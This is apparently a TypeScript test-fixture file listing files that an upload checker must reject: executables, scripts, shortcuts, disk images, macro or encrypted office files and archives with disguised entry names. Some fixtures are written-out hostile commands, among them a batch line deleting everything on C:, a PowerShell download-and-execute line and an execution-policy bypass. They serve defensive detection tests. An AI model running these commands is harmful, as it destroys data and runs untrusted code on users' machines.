import type { FileRow } from './honest-files';
import * as made from './made-files';
import { compoundOf, officeTypes, packageOf, withMacros, wordFile } from './made-files';
import { zipOf } from './zip-bytes';

const { docx, dotx, xlsx, pptx, odt } = officeTypes;
const [doc, xls, ppt] = ['application/msword', 'application/vnd.ms-excel', 'application/vnd.ms-powerpoint'];
const csv = 'Số,Ngày\r\n1,2026-11-22\r\n';
const pdf = '%PDF-1.7\n%âãÏÓ\n1 0 obj\n';
const batch = '@echo off\r\ndel /q C:\\*\r\n';
const jar = { name: 'META-INF/MANIFEST.MF', bytes: 'Main-Class: A' };
const mimetype = (bytes: string) => ({ name: 'mimetype', bytes });
const zipWith = (name: string): Buffer => zipOf([{ name, bytes: 'x' }]);
const [executable, notTaken, mismatch] = [
  'content:executable',
  'content:type-not-taken',
  'content:type-mismatch',
];

/** What is not taken, by the problem it is refused with. */
export const hostile: Readonly<Record<string, readonly FileRow[]>> = {
  [executable]: [
    ['a program of Windows', made.windowsProgram(), undefined, 'application/pdf', 'text/plain'],
    ['one that begins as text', made.windowsProgram(0x41), 'text/plain'],
    [
      'one whose text is long',
      Buffer.concat([made.windowsProgram(0x41), Buffer.alloc(90_000, 0x41)]),
      'text/plain',
    ],
    ['a program of Linux', made.elf, undefined],
    ['a shortcut', made.shortcut, undefined, 'text/plain'],
    ['an installer', compoundOf(['a'], '84100c0000000000c000000000000046'), undefined, doc],
    [
      'an installer with a zip behind it',
      Buffer.concat([compoundOf(['a'], '84100c0000000000c000000000000046'), zipWith('a.pdf')]),
      doc,
    ],
    ['a script', '#!/bin/sh\n', 'text/plain'],
    ['a batch file', batch, undefined, 'text/plain'],
    ['a batch file behind a remark', `rem x\r\n\r\n:: y\r\n${batch}`, 'text/plain'],
    ['a batch file behind a text', `BM.01 Kính gửi\r\n${batch}`, 'text/plain', 'image/bmp'],
    ['a batch file behind another mark', `GIF89a\r\n${batch}`, 'image/gif'],
    ['a batch file behind bytes', Buffer.from(`\u0001\u0002\r\n${batch}`), undefined],
    ['a batch file without its beginning', 'start "" "\\\\x\\y.exe"\r\n', undefined],
    ['PowerShell', '# x\n$a = 1\n', undefined],
    ['PowerShell in UTF-16', Buffer.from('\uFEFFparam (\n', 'utf16le'), undefined],
    ['PowerShell that fetches', "x\nIEX (New-Object Net.WebClient).DownloadString('http://x')", 'text/plain'],
    ['a command of PowerShell', '<# a #>\nSet-ExecutionPolicy Bypass\n', undefined],
    ['VBScript', '\' x\r\nSet a = CreateObject("WScript.Shell")\r\n', undefined],
    ['JScript', '/* x */\nvar a = new ActiveXObject("WScript.Shell");', undefined],
    ['JavaScript', '// x\nfunction a() {}', undefined],
    ['an HTML application', '<html><HTA:APPLICATION id="a"/></html>', 'text/html'],
    ['HTML with VBScript', '<script language="VBScript">\nMsgBox 1</script>', 'text/html'],
    [
      'a script of Windows',
      '<?xml version="1.0"?><package><job id="a"><script language="JScript"/></job></package>',
      'text/xml',
    ],
    ['a scriptlet', '<?XML version="1.0"?><scriptlet><registration/></scriptlet>', 'text/xml'],
    ['an internet shortcut', '[InternetShortcut]\r\nURL=file://x/y.exe\r\n', undefined, 'text/plain'],
    [
      'a shortcut behind another section',
      '[{000214A0}]\r\nProp3=1\r\n[internetshortcut]\r\nURL=x\r\n',
      'text/plain',
    ],
    ['a command of the shell', '[Shell]\r\nCommand=2\r\nIconFile=\\\\x\\a.ico\r\n', 'text/plain'],
    ['registry', 'Windows Registry Editor Version 5.00\r\n', 'text/plain'],
    ['a set-up file', '[Version]\r\nSignature="$CHICAGO$"\r\n', 'text/plain'],
    ...['text/javascript', 'Application/X-MSDOS-Program', 'application/hta'].map((type): FileRow => [
      `what is called ${type}`,
      'x',
      type,
    ]),
    [
      'a program whose name stands before its bytes alone',
      zipOf([{ name: 'a.pdf', nameInFront: 'setup.exe' }]),
      undefined,
    ],
    ['Java', zipOf([jar]), undefined, 'application/zip'],
    ['Java in other letters', zipOf([{ ...jar, name: 'meta-inf/Manifest.mf' }]), 'application/zip'],
    [
      'Java under another type',
      zipOf([mimetype('application/pdf'), jar]),
      'application/pdf',
      'application/zip',
    ],
    ['Java as OpenDocument', zipOf([mimetype(odt), jar]), odt],
    ['Android', zipOf([mimetype(odt), { name: 'AndroidManifest.xml' }]), odt],
    ['Windows, packed', zipOf([{ name: 'AppxManifest.xml' }]), undefined],
    ...[
      'setup.exe',
      'setup.exe ',
      'setup.exe.',
      'setup.exe . .',
      'setup.exe::$DATA',
      'a.pdf:b.exe',
      'SETUP.EXE',
      'x/setup.exe ',
      'x\\setup.scr',
      'setup.exe\u200b',
      'x\u202efdp.exe',
      'a.bat',
      'a.cmd',
      'a.ps1',
      'a.hta',
      'a.vbs',
      'a.js',
      'a.wsf',
      'a.lnk',
      'a.url',
      'a.scr',
      'vnpt.com',
    ].map((name): FileRow => [
      `an entry ${JSON.stringify(name)}`,
      zipWith(name),
      undefined,
      'application/zip',
    ]),
    ...[
      Buffer.from([0, 1, 2]),
      Buffer.from('Kính gửi\r\n'.repeat(9_000)),
      made.pngOf(10),
      Buffer.from(pdf),
      compoundOf(['Workbook']),
    ].flatMap((before): FileRow[] => [
      ['a zip with a program behind other bytes', Buffer.concat([before, zipWith('a.exe')]), undefined],
      ['Java behind other bytes', Buffer.concat([before, zipOf([jar]), Buffer.alloc(40, 0x20)]), undefined],
    ]),
  ],
  [notTaken]: [
    ['ISO', made.iso(), undefined, 'application/x-iso9660-image', 'application/pdf'],
    ['ISO behind a PDF', made.iso(pdf), undefined, 'application/pdf'],
    [
      'ISO behind a text',
      Buffer.concat([Buffer.alloc(0x8000, 0x41), made.iso().subarray(0x8000)]),
      'text/plain',
    ],
    ['ISO behind a zip mark', made.iso('PK\x03\x04'), undefined],
    ...['526172211a0700', '526172211a070100', '377abcaf271c'].flatMap((mark): FileRow[] =>
      [made.pngOf(10), made.pngOf(200_000), Buffer.from('Kính gửi\r\n')].map((before): FileRow => [
        `an archive behind ${before.length} other bytes`,
        Buffer.concat([before, Buffer.from(mark, 'hex'), Buffer.alloc(40)]),
        undefined,
        'image/png',
      ]),
    ),
    ['UDF', made.markedAt(0x9001, 'NSR02\u0001'), undefined],
    ['UDF of today', made.markedAt(0xa001, 'NSR03\u0001'), undefined],
    ['ISO of raw sectors', made.markedAt(16 * 2_352 + 17, 'CD001\u0001'), undefined],
    ['VHD', made.markedAt(4_096, 'conectix', 4_608), undefined],
    ['VHD that grows', made.markedAt(0, 'conectix', 1_024), undefined],
    ['VHDX', made.markedAt(0, 'vhdxfile', 1_024), undefined],
    ['VMDK', made.markedAt(0, 'KDMV\u0001\u0000', 1_024), undefined],
    ['DMG', made.markedAt(4_096, 'koly\u0000\u0000\u0000\u0004', 4_608), undefined],
    ['FAT', made.markedAt(54, 'FAT16   ', 1_024, '\u00eb\u003c\u0090'), undefined],
    ['NTFS', made.markedAt(3, 'NTFS    ', 1_024, '\u00eb\u0052\u0090'), undefined],
    ['GPT', made.markedAt(512, 'EFI PART', 1_024), undefined],
    ['a partitioned disk', partitioned(), undefined],
  ],
  [mismatch]: [
    ['a zip that calls itself a PDF', zipOf([mimetype('application/pdf'), { name: 'a' }]), 'application/pdf'],
    ['OpenDocument that says so late', zipOf([{ name: 'a' }, mimetype(odt)]), odt],
    [
      'Word that calls itself OpenDocument',
      zipOf([mimetype(odt), ...['[Content_Types].xml', 'word/a.xml'].map((name) => ({ name }))]),
      odt,
    ],
    ['Word with macros as without', wordFile(withMacros('word')), docx, dotx],
    ['Excel with old macros as without', packageOf(['xl/workbook.xml', 'xl/macrosheets/sheet1.xml']), xlsx],
    [
      'macros under another name',
      zipOf([
        { name: '[Content_Types].xml', bytes: 'application/vnd.ms-office.vbaProject' },
        { name: 'word/a.bin' },
      ]),
      docx,
    ],
    ['Excel as Word', packageOf(['xl/workbook.xml']), docx, doc, pptx],
    ['an old file as a new one', compoundOf(['Workbook']), xlsx],
    ['a text as a new office file', csv, xlsx, docx, pptx, ppt],
    ['a text as a picture', 'BM', 'image/bmp', 'image/x-ms-bmp', 'image/tiff'],
    ['a PDF as office files', pdf, doc, xls],
    [
      'a zip that is damaged',
      zipOf([{ name: 'a.pdf', bytes: 'x' }]).subarray(0, 60),
      'application/zip',
      undefined,
    ],
    ['a zip whose directory hides entries', zipOf([{ name: 'a.pdf' }, { name: 'a.exe' }], 1), undefined],
  ],
  'content:password-protected': [
    [
      'an office file of today',
      compoundOf(['EncryptionInfo', 'EncryptedPackage']),
      docx,
      xlsx,
      pptx,
      doc,
      undefined,
    ],
    ['an old document', compoundOf([{ name: 'WordDocument', head: made.wordHead(true) }]), doc],
    ['an old presentation', compoundOf(['PowerPoint Document', 'EncryptedSummary']), ppt],
    ['an old workbook', compoundOf([{ name: 'Workbook', head: made.workbookHead(true) }]), xls],
  ],
  'content:archive-too-much': [
    ...['a.zip', 'a.ISO', 'a.img ', 'a.vhdx.', 'a.7z'].map((name): FileRow => [
      `an entry ${name}`,
      zipWith(name),
      undefined,
    ]),
    ['an archive in a zip behind a picture', Buffer.concat([made.pngOf(10), zipWith('a.zip')]), 'image/png'],
  ],
  'content:archive-unsafe-name': [
    ['a name that turns', zipWith('a\u202efdp.docx'), undefined],
    ['a name for a drive', zipWith('A: Phụ lục.docx'), undefined],
  ],
  'content:empty': [['nothing', '', undefined, 'application/pdf', 'text/plain']],
};

function partitioned(): Buffer {
  const bytes = Buffer.alloc(2_048);
  bytes.writeUInt8(0x80, 446);
  bytes.writeUInt8(0x0c, 450);
  bytes.writeUInt32LE(2_048, 458);
  bytes.writeUInt16BE(0x55aa, 510);
  return bytes;
}
